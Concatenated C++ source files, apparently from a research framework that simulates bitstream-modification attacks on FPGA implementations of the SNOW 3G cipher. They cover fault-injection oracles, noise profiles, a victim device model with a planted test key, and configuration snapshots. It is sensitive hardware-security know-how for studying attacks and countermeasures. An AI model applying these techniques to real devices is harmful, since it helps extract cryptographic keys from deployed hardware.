ProbeOutcome FaultyOracle::apply(size_t index, FaultAction action, ProbeOutcome inner,
                                 size_t words) {
  if (dead_) {
    // A dead board answers nothing, ever.  The retry layer escalates the
    // persistent timeouts to kDead.
    ++injected_timeouts_;
    return ProbeError::kTimeout;
  }
  switch (action.kind) {
    case FaultAction::Kind::kKill:
      dead_ = true;
      died_at_ = index;
      ++injected_timeouts_;
      injected_fault_counter().add();
      if (obs::trace_enabled()) {
        obs::Tracer::global().instant("faultsim", "device_death", {{"run", index}});
      }
      return ProbeError::kTimeout;
    case FaultAction::Kind::kReject:
      ++injected_rejections_;
      injected_fault_counter().add();
      return ProbeError::kRejected;
    case FaultAction::Kind::kTimeout:
      ++injected_timeouts_;
      injected_fault_counter().add();
      return ProbeError::kTimeout;
    case FaultAction::Kind::kTruncate:
      // The capture layer length-checks every read, so a short read is
      // observable as detectable corruption rather than a bogus value.
      ++injected_truncations_;
      injected_fault_counter().add();
      return ProbeError::kCorrupt;
    case FaultAction::Kind::kFlipBit:
      if (inner.ok() && action.word < inner->size()) {
        std::vector<u32> z = *inner;
        z[action.word] ^= u32{1} << (action.bit & 31);
        ++injected_flips_;
        injected_fault_counter().add();
        return z;
      }
      return inner;
    case FaultAction::Kind::kNone:
      break;
  }
  // Stochastic capture noise: independent per-bit flips of a successful read.
  if (!scripted_ && profile_.bit_flip > 0 && inner.ok()) {
    Rng rng(mix64(profile_.seed ^ 0x6e01335ull ^ (0xd1b54a32d192ed03ull * (index + 1))));
    std::vector<u32> z = *inner;
    bool flipped = false;
    for (size_t w = 0; w < z.size() && w < words; ++w) {
      for (unsigned b = 0; b < 32; ++b) {
        if (chance(rng, profile_.bit_flip)) {
          z[w] ^= u32{1} << b;
          ++injected_flips_;
          injected_fault_counter().add();
          flipped = true;
        }
      }
    }
    if (flipped) return z;
  }
  return inner;
}

ProbeOutcome FaultyOracle::run(std::span<const u8> bitstream, size_t words) {
  const size_t index = runs_++;
  const FaultAction action = draw(index);
  // The inner device is exercised even for runs whose outcome a fault will
  // override — a glitched physical reconfiguration still happened — but its
  // result is simply discarded in that case.
  return apply(index, action, inner_.run(bitstream, words), words);
}

std::vector<ProbeOutcome> FaultyOracle::run_batch(std::span<const std::vector<u8>> bitstreams,
                                                  size_t words) {
  const size_t n = bitstreams.size();
  const size_t base = runs_;
  runs_ += n;
  // Inner execution may shard across threads; fault injection happens on the
  // calling thread afterwards, in element order, so the fault stream only
  // depends on the probe order.
  std::vector<ProbeOutcome> out = inner_.run_batch(bitstreams, words);
  for (size_t i = 0; i < n; ++i) {
    out[i] = apply(base + i, draw(base + i), std::move(out[i]), words);
  }
  return out;
}

}  // namespace sbm::faultsim
