// Deterministic unreliable-hardware model for the attack pipeline.
//
// Two ways to specify faults:
//   * NoiseProfile — seeded stochastic noise: every physical run draws its
//     faults from mix(seed, run_index) only, so a given profile produces the
//     exact same fault sequence for the same probe order, regardless of
//     thread count or wall clock.  Profiles model the obstacles reported by
//     real bitstream-modification campaigns (Puschner et al., "Patching
//     FPGAs"; Ender et al., "The Unpatchable Silicon"): transient
//     configuration rejections, keystream capture bit-flips, truncated
//     reads, timeouts, and escalating-to-permanent device death.
//   * FaultPlan — a scripted schedule of exact faults at exact physical run
//     indexes, for tests that need one specific fault in one specific
//     pipeline phase.
#pragma once

#include <optional>
#include <string>
#include <string_view>
#include <unordered_map>

#include "common/bits.h"
#include "runtime/probe_controller.h"

namespace sbm::faultsim {

/// Per-run fault rates.  All-zero (the default) is a perfect board.
struct NoiseProfile {
  /// P(configuration transiently rejected) per run — the glitch class the
  /// retry layer absorbs by re-trying.
  double transient_reject = 0;
  /// P(flip) per generated keystream bit — silent corruption, only
  /// detectable by agreement voting.
  double bit_flip = 0;
  /// P(read truncated) per run — detectable corruption (short read).
  double truncate = 0;
  /// P(no answer) per run — transient timeout.
  double timeout = 0;
  /// P(device dies permanently) per run.  After death every run times out;
  /// the retry layer escalates the persistent timeouts to kDead.
  double death = 0;
  /// Noise stream seed; campaigns re-seed per trial for independence.
  u64 seed = 0xfa017;

  /// No noise configured: the FaultyOracle becomes a pass-through.
  bool quiet() const {
    return transient_reject == 0 && bit_flip == 0 && truncate == 0 && timeout == 0 &&
           death == 0;
  }

  /// Perfect board.
  static NoiseProfile none() { return {}; }
  /// Default flaky board: 2% transient configuration failures, 1e-3
  /// keystream bit-flip rate, 0.5% truncated reads, 0.5% timeouts.  Meets
  /// the acceptance floor (>= 1e-3 flips, >= 2% transient rejections).
  static NoiseProfile mild();
  /// Aggressively flaky board for stress tests.
  static NoiseProfile harsh();
  /// Named profile lookup ("none" | "mild" | "harsh"), with an optional
  /// "@<seed>" suffix to re-seed the noise stream.  nullopt on unknown name.
  static std::optional<NoiseProfile> named(std::string_view spec);

  /// This profile with every fault rate multiplied by `factor` (clamped to
  /// [0, 1]); the seed is unchanged.  Used by the bench noise-level sweep.
  NoiseProfile scaled(double factor) const;

  friend bool operator==(const NoiseProfile&, const NoiseProfile&) = default;
};

/// Adaptive-controller tuning seeded from a *known* noise profile: the
/// corruption-rate prior is the exact per-read probability that at least one
/// of the 32*words keystream bits flipped, weighted strongly enough that the
/// cheap stopping depth applies from the first probe, and the collision odds
/// follow the single-bit-flip physics (two corrupted reads agree only when
/// both flipped the same bit).  With an unknown profile keep the
/// AdaptiveConfig defaults instead — the estimator starts uninformed and
/// learns the rate online.
runtime::AdaptiveConfig adaptive_config_for(const NoiseProfile& profile, size_t words);

/// One scripted fault, applied to the physical run it is scheduled at.
struct FaultAction {
  enum class Kind : u8 {
    kNone = 0,
    kReject,    // transient configuration rejection
    kFlipBit,   // flip `bit` of keystream word `word` (silent corruption)
    kTruncate,  // return only `keep_words` words (detectable corruption)
    kTimeout,   // no answer this run
    kKill,      // device dies: this run and every later one times out
  };
  Kind kind = Kind::kNone;
  u32 word = 0;        // kFlipBit: word index
  u32 bit = 0;         // kFlipBit: bit 0..31
  u32 keep_words = 0;  // kTruncate: words returned
};

/// Exact fault schedule keyed by physical run index (0-based, in the
/// FaultyOracle's own run order).  Unlisted runs are fault-free.
class FaultPlan {
 public:
  FaultPlan& at(size_t run_index, FaultAction action) {
    schedule_[run_index] = action;
    return *this;
  }
  FaultPlan& reject_at(size_t i) { return at(i, {FaultAction::Kind::kReject, 0, 0, 0}); }
  FaultPlan& flip_at(size_t i, u32 word, u32 bit) {
    return at(i, {FaultAction::Kind::kFlipBit, word, bit, 0});
  }
  FaultPlan& truncate_at(size_t i, u32 keep_words) {
    return at(i, {FaultAction::Kind::kTruncate, 0, 0, keep_words});
  }
  FaultPlan& timeout_at(size_t i) { return at(i, {FaultAction::Kind::kTimeout, 0, 0, 0}); }
  FaultPlan& kill_at(size_t i) { return at(i, {FaultAction::Kind::kKill, 0, 0, 0}); }

  FaultAction action_at(size_t run_index) const {
    const auto it = schedule_.find(run_index);
    return it == schedule_.end() ? FaultAction{} : it->second;
  }
  bool empty() const { return schedule_.empty(); }

 private:
  std::unordered_map<size_t, FaultAction> schedule_;
};

}  // namespace sbm::faultsim
