#include "faultsim/noise.h"

#include <cstdlib>

namespace sbm::faultsim {

NoiseProfile NoiseProfile::mild() {
  NoiseProfile p;
  p.transient_reject = 0.02;
  p.bit_flip = 1e-3;
  p.truncate = 0.005;
  p.timeout = 0.005;
  return p;
}

NoiseProfile NoiseProfile::harsh() {
  NoiseProfile p;
  p.transient_reject = 0.05;
  p.bit_flip = 2e-3;
  p.truncate = 0.01;
  p.timeout = 0.01;
  return p;
}

std::optional<NoiseProfile> NoiseProfile::named(std::string_view spec) {
  std::string_view name = spec;
  std::optional<u64> seed;
  if (const size_t at = spec.find('@'); at != std::string_view::npos) {
    name = spec.substr(0, at);
    const std::string tail(spec.substr(at + 1));
    char* end = nullptr;
    const u64 value = std::strtoull(tail.c_str(), &end, 0);
    if (end == tail.c_str() || *end != '\0') return std::nullopt;
    seed = value;
  }
  NoiseProfile p;
  if (name == "none") {
    p = none();
  } else if (name == "mild") {
    p = mild();
  } else if (name == "harsh") {
    p = harsh();
  } else {
    return std::nullopt;
  }
  if (seed) p.seed = *seed;
  return p;
}

}  // namespace sbm::faultsim
