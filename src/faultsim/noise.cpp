#include "faultsim/noise.h"

#include <algorithm>
#include <cmath>
#include <cstdlib>

namespace sbm::faultsim {

NoiseProfile NoiseProfile::mild() {
  NoiseProfile p;
  p.transient_reject = 0.02;
  p.bit_flip = 1e-3;
  p.truncate = 0.005;
  p.timeout = 0.005;
  return p;
}

NoiseProfile NoiseProfile::harsh() {
  NoiseProfile p;
  p.transient_reject = 0.05;
  p.bit_flip = 2e-3;
  p.truncate = 0.01;
  p.timeout = 0.01;
  return p;
}

std::optional<NoiseProfile> NoiseProfile::named(std::string_view spec) {
  std::string_view name = spec;
  std::optional<u64> seed;
  if (const size_t at = spec.find('@'); at != std::string_view::npos) {
    name = spec.substr(0, at);
    const std::string tail(spec.substr(at + 1));
    char* end = nullptr;
    const u64 value = std::strtoull(tail.c_str(), &end, 0);
    if (end == tail.c_str() || *end != '\0') return std::nullopt;
    seed = value;
  }
  NoiseProfile p;
  if (name == "none") {
    p = none();
  } else if (name == "mild") {
    p = mild();
  } else if (name == "harsh") {
    p = harsh();
  } else {
    return std::nullopt;
  }
  if (seed) p.seed = *seed;
  return p;
}

NoiseProfile NoiseProfile::scaled(double factor) const {
  auto scale = [factor](double rate) { return std::clamp(rate * factor, 0.0, 1.0); };
  NoiseProfile p = *this;
  p.transient_reject = scale(transient_reject);
  p.bit_flip = scale(bit_flip);
  p.truncate = scale(truncate);
  p.timeout = scale(timeout);
  p.death = scale(death);
  return p;
}

runtime::AdaptiveConfig adaptive_config_for(const NoiseProfile& profile, size_t words) {
  runtime::AdaptiveConfig cfg;
  const double bits = 32.0 * static_cast<double>(words);
  // Per-read silent-corruption probability: at least one keystream bit flips.
  const double p_corrupt = 1.0 - std::pow(1.0 - profile.bit_flip, bits);
  // Strong prior: the profile is measured knowledge, not a guess, so weight
  // it like dozens of observed reads and let the online stream refine it.
  cfg.prior_corrupt = std::clamp(p_corrupt, 1e-6, 0.95);
  cfg.prior_weight = 32;
  // Collision odds from the flip physics: a corrupted read most likely
  // carries exactly one flipped bit (Poisson with lambda = bit_flip * bits),
  // and two single-flip corruptions agree only by hitting the same bit.
  const double lambda = profile.bit_flip * bits;
  const double p_single =
      lambda > 0 ? (lambda * std::exp(-lambda)) / (1.0 - std::exp(-lambda)) : 1.0;
  cfg.collision_odds = std::max(1e-6, p_single * p_single / std::max(1.0, bits));

  // Size the read budget for the corruption level.  A probe that exhausts
  // max_reads settles kCorrupt and the pipeline treats the board as lost,
  // so on a heavily corrupted but sound board the budget must make that
  // outcome essentially impossible: hold the per-probe odds that fewer
  // clean captures than the stopping depth arrive in max_reads reads three
  // orders below the accept bound (campaign-scale runs make ~10^4 probes,
  // so the aggregate misdeclaration risk stays around a percent).
  const double ucb0 = std::clamp(
      cfg.prior_corrupt + cfg.confidence_z * std::sqrt(cfg.prior_corrupt *
                                                       (1.0 - cfg.prior_corrupt) /
                                                       (cfg.prior_weight + 1.0)),
      1e-6, 0.95);
  unsigned depth = cfg.min_agree;
  for (; depth < 16; ++depth) {
    const double odds = std::pow(ucb0 / (1.0 - ucb0), static_cast<int>(depth)) *
                        std::pow(cfg.collision_odds, static_cast<int>(depth) - 1);
    if (odds <= cfg.accept_error) break;
  }
  ++depth;  // margin: the online estimate may wander above the prior early on
  const double clean = 1.0 - cfg.prior_corrupt;
  const double tail_budget = cfg.accept_error * 1e-3;
  auto short_of_depth = [&](unsigned n) {
    // P(Binom(n, clean) < depth): the odds n reads hold too few clean ones.
    double term = std::pow(1.0 - clean, static_cast<int>(n));  // i = 0
    double tail = term;
    for (unsigned i = 1; i < depth; ++i) {
      term *= static_cast<double>(n - i + 1) / static_cast<double>(i) * clean / (1.0 - clean);
      tail += term;
    }
    return tail;
  };
  while (cfg.max_reads < 128 && short_of_depth(cfg.max_reads) > tail_budget) ++cfg.max_reads;
  return cfg;
}

}  // namespace sbm::faultsim
