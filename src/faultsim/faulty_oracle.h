// FaultyOracle: decorator that makes any Oracle behave like flaky hardware.
//
// Wraps an inner oracle and injects faults — from a seeded NoiseProfile or a
// scripted FaultPlan — into every physical run.  Fault draws are a pure
// function of (seed, physical run index); run indexes are assigned in
// element order inside run_batch before the inner (possibly parallel,
// bit-sliced) execution, so the fault sequence is identical for any batch
// width or thread count given the same probe order.
//
// The decorator is the hardware boundary for cost accounting: its runs()
// counter is the number of physical reconfiguration attempts the attacker
// paid for, including runs that ended in an injected fault.
#pragma once

#include "attack/oracle.h"
#include "faultsim/noise.h"
#include "runtime/retry.h"

namespace sbm::faultsim {

class FaultyOracle : public attack::Oracle {
 public:
  /// Stochastic noise drawn from `profile` (seeded, deterministic).
  FaultyOracle(attack::Oracle& inner, NoiseProfile profile)
      : inner_(inner), profile_(profile) {}
  /// Scripted faults at exact physical run indexes; unlisted runs are clean.
  FaultyOracle(attack::Oracle& inner, FaultPlan plan)
      : inner_(inner), plan_(std::move(plan)), scripted_(true) {}

  runtime::ProbeOutcome run(std::span<const u8> bitstream, size_t words) override;
  std::vector<runtime::ProbeOutcome> run_batch(std::span<const std::vector<u8>> bitstreams,
                                               size_t words) override;
  /// Fault injection is lane-agnostic; the scheduling grain is the inner
  /// device's, so confirmation re-reads keep riding the wide batch path.
  unsigned batch_lanes() const override { return inner_.batch_lanes(); }

  /// The device died permanently (kKill fired or profile.death triggered).
  bool dead() const { return dead_; }
  /// Physical run index the device died at (runs() order), or SIZE_MAX.
  size_t died_at() const { return died_at_; }

  // Injection counters (test/report instrumentation; a real attacker only
  // sees the observable outcomes).
  size_t injected_rejections() const { return injected_rejections_; }
  size_t injected_flips() const { return injected_flips_; }
  size_t injected_truncations() const { return injected_truncations_; }
  size_t injected_timeouts() const { return injected_timeouts_; }

 private:
  /// Decides the fault for physical run `index` (does not apply it).
  FaultAction draw(size_t index) const;
  /// Applies `action` to the inner outcome for run `index`, updating the
  /// injection counters.  `index` seeds the bit-flip position draws.
  runtime::ProbeOutcome apply(size_t index, FaultAction action, runtime::ProbeOutcome inner,
                              size_t words);

  attack::Oracle& inner_;
  NoiseProfile profile_{};
  FaultPlan plan_;
  bool scripted_ = false;
  bool dead_ = false;
  size_t died_at_ = static_cast<size_t>(-1);
  size_t injected_rejections_ = 0;
  size_t injected_flips_ = 0;
  size_t injected_truncations_ = 0;
  size_t injected_timeouts_ = 0;
};

}  // namespace sbm::faultsim
