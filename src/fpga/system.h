// End-to-end system bundle: design -> mapping -> placement -> bitstream ->
// device, with the golden bitstream and the planted secrets kept together.
// This is the "victim product" the examples, tests and benches instantiate.
#pragma once

#include <memory>

#include "bitstream/assembler.h"
#include "fpga/batch_device.h"
#include "fpga/device.h"
#include "fpga/snapshot.h"
#include "mapper/mapper.h"
#include "mapper/packing.h"
#include "netlist/snow3g_design.h"

namespace sbm::fpga {

struct SystemOptions {
  bool protected_variant = false;       // Section VII countermeasure
  /// Response-equalized countermeasure: three kept copies of each target
  /// XOR recombined through an unkept 3-input XOR, so every copy shares one
  /// fault-response class.  Implies protected_variant.
  bool equalized = false;
  snow3g::Key key = {0x2bd6459f, 0x82c5b300, 0x952c4910, 0x4881ff48};
  mapper::MapperOptions mapper;
  mapper::PackingOptions packing;
};

/// A fully built victim: netlist, mapped/placed design, golden bitstream.
struct System {
  netlist::Snow3gDesign design;
  mapper::LutNetwork mapped;
  mapper::PlacedDesign placed;
  bitstream::AssembledBitstream golden;
  SystemOptions options;

  /// Golden-configuration snapshot enabling incremental reconfiguration and
  /// the bit-sliced batch simulator (built once per system).
  std::shared_ptr<const DeviceSnapshot> snapshot;

  /// Fresh device bound to this system's geometry (not yet configured).
  Device make_device() const { return Device(design, placed, golden.layout, snapshot.get()); }

  /// Fresh 64-lane batch device (requires the snapshot, always built).
  BatchDevice make_batch_device() const {
    return BatchDevice(design, placed, golden.layout, *snapshot);
  }

  /// Ground truth for evaluating the attack: byte indexes (FINDLUT's l) of
  /// every LUT whose cone contains the target node v[bit], split by path.
  struct TruthLut {
    size_t byte_index;
    unsigned bit;       // which of the 32 XORs of v
    bool on_z_path;     // LUT1 vs LUT2/LUT3 role
    size_t lut_index;   // into mapped.luts
  };
  std::vector<TruthLut> target_luts() const;

  /// Ground truth for evaluating the cracker: for each target bit, the byte
  /// indexes of the LUTs that *are* the bit's source — the single kept XOR2
  /// implementing v[bit] in the plain protected variant, or the three kept
  /// copies in the equalized variant.  Only sensible on protected systems
  /// (the cracker's candidate model assumes trivially-cut XOR2 sites).
  std::vector<std::vector<size_t>> crack_truth() const;
};

System build_system(const SystemOptions& options = {});

}  // namespace sbm::fpga
