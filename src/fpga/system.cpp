#include "fpga/system.h"

#include <algorithm>
#include <unordered_map>
#include <unordered_set>

namespace sbm::fpga {

System build_system(const SystemOptions& options) {
  System sys;
  sys.options = options;
  sys.options.protected_variant = options.protected_variant || options.equalized;
  sys.design = options.equalized          ? netlist::build_equalized_snow3g_design()
               : options.protected_variant ? netlist::build_protected_snow3g_design()
                                           : netlist::build_snow3g_design();
  sys.mapped = mapper::map_network(sys.design.net, options.mapper);
  sys.placed = mapper::pack_and_place(sys.mapped, options.packing);
  sys.golden = bitstream::assemble(sys.placed, options.key);
  sys.snapshot = build_snapshot(sys.design, sys.placed, sys.golden.layout, sys.golden.bytes);
  return sys;
}

std::vector<System::TruthLut> System::target_luts() const {
  std::unordered_map<netlist::NodeId, unsigned> v_bit;
  for (unsigned i = 0; i < 32; ++i) v_bit.emplace(design.target_v[i], i);

  // Roots that drive the z outputs directly are the paper's LUT1 population.
  std::unordered_set<netlist::NodeId> z_roots;
  for (const auto& [name, po] : design.net.outputs()) z_roots.insert(po);

  // Site lookup for byte indexes.
  std::unordered_map<size_t, size_t> site_of;  // lut index -> phys site
  for (size_t s = 0; s < placed.phys.size(); ++s) {
    if (placed.phys[s].o6_lut >= 0) site_of[static_cast<size_t>(placed.phys[s].o6_lut)] = s;
    if (placed.phys[s].o5_lut >= 0) site_of[static_cast<size_t>(placed.phys[s].o5_lut)] = s;
  }

  std::vector<TruthLut> out;
  for (size_t li = 0; li < placed.mapped.luts.size(); ++li) {
    const mapper::MappedLut& lut = placed.mapped.luts[li];
    // Collect the covered cone: root back to (exclusive) cut leaves.
    std::unordered_set<netlist::NodeId> leaves(lut.inputs.begin(), lut.inputs.end());
    std::vector<netlist::NodeId> stack{lut.root};
    std::unordered_set<netlist::NodeId> seen;
    while (!stack.empty()) {
      const netlist::NodeId id = stack.back();
      stack.pop_back();
      if (!seen.insert(id).second) continue;
      // A cut leaf is an input wire, not covered logic; only interior nodes
      // (and the root itself) count as "contains v".
      if (leaves.count(id)) continue;
      const auto it = v_bit.find(id);
      if (it != v_bit.end()) {
        out.push_back({golden.layout.site_byte_index(site_of.at(li)), it->second,
                       z_roots.count(lut.root) != 0, li});
      }
      const netlist::Node& n = design.net.node(id);
      switch (n.kind) {
        case netlist::NodeKind::kAnd:
        case netlist::NodeKind::kOr:
        case netlist::NodeKind::kXor:
          stack.push_back(n.fanin[0]);
          stack.push_back(n.fanin[1]);
          break;
        case netlist::NodeKind::kNot:
          stack.push_back(n.fanin[0]);
          break;
        default:
          break;
      }
    }
  }
  return out;
}

std::vector<std::vector<size_t>> System::crack_truth() const {
  std::unordered_map<netlist::NodeId, unsigned> source_bit;
  for (unsigned i = 0; i < 32; ++i) {
    if (design.equalized) {
      for (const netlist::NodeId c : design.target_copies[i]) source_bit.emplace(c, i);
    } else {
      source_bit.emplace(design.target_v[i], i);
    }
  }
  std::unordered_map<size_t, size_t> site_of;  // lut index -> phys site
  for (size_t s = 0; s < placed.phys.size(); ++s) {
    if (placed.phys[s].o6_lut >= 0) site_of[static_cast<size_t>(placed.phys[s].o6_lut)] = s;
    if (placed.phys[s].o5_lut >= 0) site_of[static_cast<size_t>(placed.phys[s].o5_lut)] = s;
  }
  std::vector<std::vector<size_t>> truth(32);
  for (size_t li = 0; li < placed.mapped.luts.size(); ++li) {
    const auto it = source_bit.find(placed.mapped.luts[li].root);
    if (it == source_bit.end()) continue;
    truth[it->second].push_back(golden.layout.site_byte_index(site_of.at(li)));
  }
  for (auto& sites : truth) std::sort(sites.begin(), sites.end());
  return truth;
}

}  // namespace sbm::fpga
