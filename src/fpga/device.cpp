#include "fpga/device.h"

#include <stdexcept>

#include "bitstream/parser.h"
#include "bitstream/patcher.h"
#include "fpga/snapshot.h"
#include "mapper/lut_network.h"

namespace sbm::fpga {

Device::Device(const netlist::Snow3gDesign& design, const mapper::PlacedDesign& placed,
               const bitstream::Layout& layout, const DeviceSnapshot* snapshot)
    : design_(design), placed_(placed), layout_(layout), snapshot_(snapshot) {}

bool Device::configure(std::span<const u8> bytes) {
  configured_ = false;
  error_.clear();

  if (snapshot_) {
    if (const auto diff = diff_against_golden(*snapshot_, bytes)) {
      configured_luts_ = snapshot_->golden_luts;
      for (const auto& [site, init] : diff->sites) {
        const mapper::PhysicalLut& p = placed_.phys[site];
        if (p.o6_lut >= 0) {
          configured_luts_.luts[static_cast<size_t>(p.o6_lut)].function =
              placed_.function_from_init(site, false, init);
        }
        if (p.o5_lut >= 0) {
          configured_luts_.luts[static_cast<size_t>(p.o5_lut)].function =
              placed_.function_from_init(site, true, init);
        }
      }
      key_ = diff->key;
      configured_ = true;
      return true;
    }
  }

  const bitstream::ParseResult parsed = bitstream::parse_bitstream(bytes);
  if (!parsed.ok) {
    error_ = parsed.error;
    return false;
  }
  if (parsed.frame_data.size() < layout_.frame_count * bitstream::kFrameBytes) {
    error_ = "frame data too short for device geometry";
    return false;
  }

  // Configure LUTs: read every site's INIT out of the (possibly modified)
  // frame data and rebuild the logical functions.
  configured_luts_ = placed_.mapped;
  for (size_t site = 0; site < placed_.phys.size(); ++site) {
    const size_t l = layout_.site_byte_index(site) - layout_.fdri_byte_offset;
    const auto order = bitstream::chunk_order(placed_.slice_of(site));
    const u64 init = bitstream::read_lut_init(parsed.frame_data, l, bitstream::Layout::chunk_stride(),
                                              order);
    const mapper::PhysicalLut& p = placed_.phys[site];
    if (p.o6_lut >= 0) {
      configured_luts_.luts[static_cast<size_t>(p.o6_lut)].function =
          placed_.function_from_init(site, false, init);
    }
    if (p.o5_lut >= 0) {
      configured_luts_.luts[static_cast<size_t>(p.o5_lut)].function =
          placed_.function_from_init(site, true, init);
    }
  }

  // Load the embedded key.
  const size_t key_off = layout_.key_byte_index() - layout_.fdri_byte_offset;
  for (int w = 0; w < 4; ++w) {
    key_[static_cast<size_t>(w)] = load_be32(parsed.frame_data.data() + key_off + 4 * w);
  }
  configured_ = true;
  return true;
}

bool Device::configure_encrypted(std::span<const u8> bytes, const crypto::Aes256Key& k_e) {
  const bitstream::UnprotectResult res = bitstream::unprotect_bitstream(bytes, k_e);
  if (!res.ok) {
    configured_ = false;
    error_ = res.error;
    return false;
  }
  return configure(res.plain);
}

std::vector<u32> Device::keystream(const snow3g::Iv& iv, size_t n) {
  if (!configured_) throw std::logic_error("device not configured");
  mapper::LutSimulator sim(design_.net, configured_luts_);
  for (int i = 0; i < 4; ++i) {
    sim.set_input_word(design_.key[static_cast<size_t>(i)], key_[static_cast<size_t>(i)]);
    sim.set_input_word(design_.iv[static_cast<size_t>(i)], iv[static_cast<size_t>(i)]);
  }
  auto drive = [&](bool load, bool init, bool gen) {
    sim.set_input(design_.load, load);
    sim.set_input(design_.init, init);
    sim.set_input(design_.gen, gen);
  };
  // One warm-up cycle lets the gamma pipeline registers capture K/IV.
  drive(false, false, false);
  sim.step();
  drive(true, false, false);
  sim.step();
  for (int round = 0; round < 32; ++round) {
    drive(false, true, false);
    sim.step();
  }
  drive(false, false, true);
  sim.step();  // discarded clock
  std::vector<u32> z;
  z.reserve(n);
  for (size_t t = 0; t < n; ++t) {
    drive(false, false, true);
    sim.settle();
    z.push_back(sim.read_word(design_.z));
    sim.clock();
  }
  return z;
}

}  // namespace sbm::fpga
