// The victim FPGA: configures itself from a bitstream and generates
// keystream words on demand.
//
// Routing and placement are fixed (they are properties of the device's
// configured interconnect that our model keeps static); the bitstream
// carries the LUT INIT contents and the embedded cipher key.  Every byte the
// attacker flips in the bitstream therefore lands exactly where it would on
// the real part: in some LUT's truth table (or in the CRC words, in which
// case configuration aborts unless the check was disabled or recomputed).
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "bitstream/assembler.h"
#include "bitstream/secure.h"
#include "mapper/packing.h"
#include "netlist/snow3g_design.h"
#include "snow3g/snow3g.h"

namespace sbm::fpga {

struct DeviceSnapshot;

class Device {
 public:
  /// `snapshot` (optional, must outlive the device) enables the incremental
  /// configure fast path: candidates that differ from the golden bitstream
  /// only inside the frame-data region skip the full parse and re-decode
  /// only the touched LUT sites.  Acceptance behavior is unchanged.
  Device(const netlist::Snow3gDesign& design, const mapper::PlacedDesign& placed,
         const bitstream::Layout& layout, const DeviceSnapshot* snapshot = nullptr);

  /// Loads a plain bitstream.  Returns false (see error()) on malformed
  /// packets, IDCODE mismatch or CRC failure.
  bool configure(std::span<const u8> bytes);

  /// Loads an encrypted bitstream: decrypt with K_E, verify HMAC, configure.
  bool configure_encrypted(std::span<const u8> bytes, const crypto::Aes256Key& k_e);

  const std::string& error() const { return error_; }
  bool configured() const { return configured_; }

  /// Runs the cipher: load gamma(K_bitstream, iv), 32 init rounds, one
  /// discarded clock, then n keystream words.
  std::vector<u32> keystream(const snow3g::Iv& iv, size_t n);

  /// The key the device loaded from the bitstream (test instrumentation; a
  /// real attacker has no such port).
  const snow3g::Key& loaded_key() const { return key_; }

 private:
  const netlist::Snow3gDesign& design_;
  const mapper::PlacedDesign& placed_;
  bitstream::Layout layout_;
  const DeviceSnapshot* snapshot_ = nullptr;
  mapper::LutNetwork configured_luts_;
  snow3g::Key key_{};
  bool configured_ = false;
  std::string error_;
};

}  // namespace sbm::fpga
