#include "fpga/snapshot.h"

#include <cstring>

#include "bitstream/patcher.h"

namespace sbm::fpga {

namespace {

/// FNV-1a over the bytes outside [fdri, fdri + frame_len): the hash guard
/// that lets diff_against_golden skip the byte-wise template compare for
/// bitstreams that obviously do not match.
u64 outside_hash(std::span<const u8> bytes, size_t fdri, size_t frame_len) {
  u64 h = 0xcbf29ce484222325ull;
  auto feed = [&h](const u8* p, size_t n) {
    for (size_t i = 0; i < n; ++i) h = (h ^ p[i]) * 0x100000001b3ull;
  };
  feed(bytes.data(), fdri);
  feed(bytes.data() + fdri + frame_len, bytes.size() - fdri - frame_len);
  return h;
}

bool outside_equal(std::span<const u8> bytes, const std::vector<u8>& tmpl, size_t fdri,
                   size_t frame_len) {
  return std::memcmp(bytes.data(), tmpl.data(), fdri) == 0 &&
         std::memcmp(bytes.data() + fdri + frame_len, tmpl.data() + fdri + frame_len,
                     bytes.size() - fdri - frame_len) == 0;
}

}  // namespace

std::shared_ptr<const DeviceSnapshot> build_snapshot(const netlist::Snow3gDesign& design,
                                                     const mapper::PlacedDesign& placed,
                                                     const bitstream::Layout& layout,
                                                     std::span<const u8> golden) {
  auto snap = std::make_shared<DeviceSnapshot>();
  snap->golden.assign(golden.begin(), golden.end());
  snap->golden_nocrc = snap->golden;
  bitstream::disable_crc(snap->golden_nocrc);
  snap->has_nocrc_template = snap->golden_nocrc != snap->golden;
  snap->fdri = layout.fdri_byte_offset;
  snap->frame_len = layout.frame_count * bitstream::kFrameBytes;
  if (snap->fdri + snap->frame_len > snap->golden.size()) {
    // Degenerate geometry (should not happen for assembled systems): leave
    // the snapshot without fast-path data; diff_against_golden will refuse.
    snap->frame_len = 0;
    snap->fdri = 0;
    snap->has_nocrc_template = false;
  }
  snap->outside_hash_golden = outside_hash(snap->golden, snap->fdri, snap->frame_len);
  snap->outside_hash_nocrc = outside_hash(snap->golden_nocrc, snap->fdri, snap->frame_len);

  // Owner map + per-site geometry.
  snap->owner.assign(snap->frame_len, DeviceSnapshot::kOwnerInert);
  snap->site_l.resize(placed.phys.size());
  snap->site_order.resize(placed.phys.size());
  for (size_t site = 0; site < placed.phys.size(); ++site) {
    const size_t l = layout.site_byte_index(site);
    snap->site_l[site] = l;
    snap->site_order[site] = bitstream::chunk_order(placed.slice_of(site));
    for (unsigned c = 0; c < bitstream::kSubVectors; ++c) {
      for (unsigned b = 0; b < bitstream::kChunkBytes; ++b) {
        const size_t idx = l - snap->fdri + c * bitstream::Layout::chunk_stride() + b;
        if (idx < snap->owner.size()) snap->owner[idx] = static_cast<int>(site);
      }
    }
  }
  snap->key_l = layout.key_byte_index();
  for (size_t b = 0; b < 16; ++b) {
    const size_t idx = snap->key_l - snap->fdri + b;
    if (idx < snap->owner.size()) snap->owner[idx] = DeviceSnapshot::kOwnerKey;
  }

  // Golden decode: same per-site reconstruction Device::configure performs,
  // read once here so every probe starts from this configuration.
  snap->golden_luts = placed.mapped;
  for (size_t site = 0; site < placed.phys.size(); ++site) {
    const u64 init = bitstream::read_lut_init(snap->golden, snap->site_l[site],
                                              bitstream::Layout::chunk_stride(),
                                              snap->site_order[site]);
    const mapper::PhysicalLut& p = placed.phys[site];
    if (p.o6_lut >= 0) {
      snap->golden_luts.luts[static_cast<size_t>(p.o6_lut)].function =
          placed.function_from_init(site, false, init);
    }
    if (p.o5_lut >= 0) {
      snap->golden_luts.luts[static_cast<size_t>(p.o5_lut)].function =
          placed.function_from_init(site, true, init);
    }
  }
  for (size_t w = 0; w < 4; ++w) {
    snap->golden_key[w] = load_be32(snap->golden.data() + snap->key_l + 4 * w);
  }

  // Compiled evaluation tape + lane-transposed golden tables.  Forcing the
  // topo-order cache here keeps later concurrent simulator construction
  // read-only on the Network.
  design.net.topo_order();
  snap->tape = std::make_shared<const mapper::BatchLutTape>(design.net, placed.mapped);
